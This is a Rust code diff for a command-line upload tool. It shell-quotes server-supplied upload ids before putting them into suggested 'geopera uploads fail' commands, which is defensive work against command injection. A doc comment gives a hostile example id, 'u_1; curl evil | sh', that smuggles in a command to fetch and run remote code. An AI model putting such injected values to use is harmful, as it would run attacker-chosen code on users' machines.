@@ -136,14 +136,18 @@ fn failed(error: &UploadError, api_url: &str, settings: &Settings) -> Failure {
             crate::failure::chain(other)
         )),
     };
-    let id = error.upload_id().unwrap_or("the upload");
+    let id = error.upload_id().map_or_else(
+        || "the upload".to_owned(),
+        |id| format!("upload {}", crate::paint::inert(&shell_word(id))),
+    );
     let release = match error.release() {
         Release::NothingReserved => String::new(),
         _ if error.is_released() && error.upload_id().is_none() => String::new(),
         Release::Released => format!("{id}: its reservation was released"),
         Release::NotReleased(why) => format!(
-            "{id}: its reservation was NOT released ({}); run 'geopera uploads fail --upload-id {id} --error-message ...' to release it",
-            crate::failure::chain(why)
+            "{id}: its reservation was NOT released ({}); {}",
+            crate::failure::chain(why),
+            release_advice(error.upload_id())
         ),
         _ if error.is_released() => format!("{id}: its reservation was released"),
         _ => format!("{id}: its reservation may still be held"),
@@ -154,3 +158,35 @@ fn failed(error: &UploadError, api_url: &str, settings: &Settings) -> Failure {
     }
     failure
 }
+
+/// What to run to release a reservation the upload could not release itself.
+pub(crate) fn release_advice(upload_id: Option<&str>) -> String {
+    match upload_id {
+        Some(id) if !id.chars().any(crate::paint::steers) => format!(
+            "run 'geopera uploads fail --upload-id={} --error-message cancelled' to release it",
+            shell_word(id)
+        ),
+        // A quoted line break or escape sequence cannot be shown as it must be typed.
+        Some(_) => "its upload id is unusual (shown escaped above): release it with 'geopera \
+                    uploads fail --upload-id ID --error-message cancelled'"
+            .to_owned(),
+        None => "list the project's uploads ('geopera uploads list') and release it with \
+                 'geopera uploads fail'"
+            .to_owned(),
+    }
+}
+
+/// `text`, chosen by the server, as one word a POSIX shell reads back unchanged: bare when it
+/// holds only characters no shell acts on, else in single quotes. Pasted bare into a
+/// suggested command, an id such as `u_1; curl evil | sh` would run what the server chose.
+pub(crate) fn shell_word(text: &str) -> String {
+    let plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '_' | '.' | '-');
+    if !text.is_empty() && text.chars().all(plain) {
+        return text.to_owned();
+    }
+    format!("'{}'", text.replace('\'', r"'\''"))
+}
+
+#[cfg(test)]
+#[path = "upload_tests.rs"]
+mod tests;
